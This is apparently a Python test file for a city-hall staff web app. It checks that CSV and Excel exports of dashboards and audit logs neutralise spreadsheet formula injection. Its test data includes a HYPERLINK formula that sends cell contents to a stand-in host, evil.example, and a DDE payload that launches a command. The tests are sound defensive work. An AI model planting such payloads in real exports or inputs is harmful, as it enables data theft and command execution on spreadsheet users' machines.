"""Exports never carry a formula: text starting with =, +, -, @, tab or CR is written to CSV
with a leading apostrophe and to Excel as a string cell, in every download."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select

from cityhall.db import db
from models.audit import AuditLog
from models.center import District
from staff import exports
from tests.staff_support import StaffClient, staff_app  # noqa: F401
from tests.test_dashboards_web import RANGE, visited  # noqa: F401

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"太田")', "+1+1", "-2+3", "@SUM(A1:A9)",
             "\t=cmd|' /C calc'!A0", "\r=1+1"]
HARMLESS = ["太田", "a=b", "", "1-2"]


def csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def sheet_of(body: bytes):
    return openpyxl.load_workbook(io.BytesIO(body)).active


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_like_text_is_quoted_in_csv_and_a_string_in_excel(value):
    header, rows = ["name", "count"], [[value, -4], ["plain", 5]]
    assert csv_cells(exports.csv_bytes(header, rows))[1] == ["'" + value, "-4"]
    sheet = sheet_of(exports.rows_xlsx(header, rows, "sheet"))
    cell = sheet["A2"]
    # XML reads a CR back as a line feed; the cell is text either way.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)
    assert (sheet["B2"].value, sheet["B2"].data_type) == (-4, "n")


@pytest.mark.parametrize("value", HARMLESS)
def test_other_text_is_written_as_it_is(value):
    assert csv_cells(exports.csv_bytes(["v"], [[value]]))[1] == [value]
    cell = sheet_of(exports.rows_xlsx(["v"], [[value or None]], "s"))["A2"]
    assert cell.value == (value or None) and not cell.quotePrefix


def test_data_frames_keep_numbers_and_quote_text_headers_included():
    frame = pd.DataFrame({"=label": DANGEROUS, "visits": range(-3, 3)})
    cells = csv_cells(exports.frame_csv(frame))
    assert cells[0] == ["'=label", "visits"]
    assert [row[0] for row in cells[1:]] == ["'" + v for v in DANGEROUS]
    assert [row[1] for row in cells[1:]] == ["-3", "-2", "-1", "0", "1", "2"]
    sheet = sheet_of(exports.frame_xlsx(frame, "chart"))
    assert [c.data_type for c in sheet["A"]] == ["s"] * 7
    assert [c.value for c in sheet["A"][1:]] == [v.replace("\r", "\n") for v in DANGEROUS]
    assert [c.data_type for c in sheet["B"][1:]] == ["n"] * 6


def test_dashboard_downloads_write_district_names_as_text(visited):  # noqa: F811
    with visited.app_context(), db.transaction() as session:
        for code, name in (("ota", DANGEROUS[0]), ("miwa", DANGEROUS[3])):
            session.scalars(select(District).where(District.code == code)).one().name_ja = name
    client = StaffClient(visited)
    client.login("admin")
    body = client.get(f"/staff/dashboards/districts.csv?{RANGE}").get_data()
    names = sorted(row[0] for row in csv_cells(body)[1:])
    assert names == sorted(["'" + DANGEROUS[0], "'" + DANGEROUS[3]])
    sheet = sheet_of(client.get(f"/staff/dashboards/districts.xlsx?{RANGE}").get_data())
    cells = [c for c in sheet["A"][1:]]
    assert sorted(c.value for c in cells) == sorted([DANGEROUS[0], DANGEROUS[3]])
    assert {c.data_type for c in cells} == {"s"}
    assert sheet["B2"].data_type == "n"


def test_the_audit_log_export_writes_typed_values_as_text(staff_app):  # noqa: F811
    with staff_app.app_context(), db.transaction() as session:
        # What a sign-in form lets anyone type ends up in the audit log.
        session.add(AuditLog(username="@evil", action="auth.login_failed",
                             target="=HYPERLINK(\"http://evil.example\")", detail={}))
    client = StaffClient(staff_app)
    client.login("admin")
    rows = csv_cells(client.get("/staff/admin/audit.csv?action=auth.login_failed").get_data())
    assert rows[1][2:5] == ["'@evil", "auth.login_failed", "'=HYPERLINK(\"http://evil.example\")"]
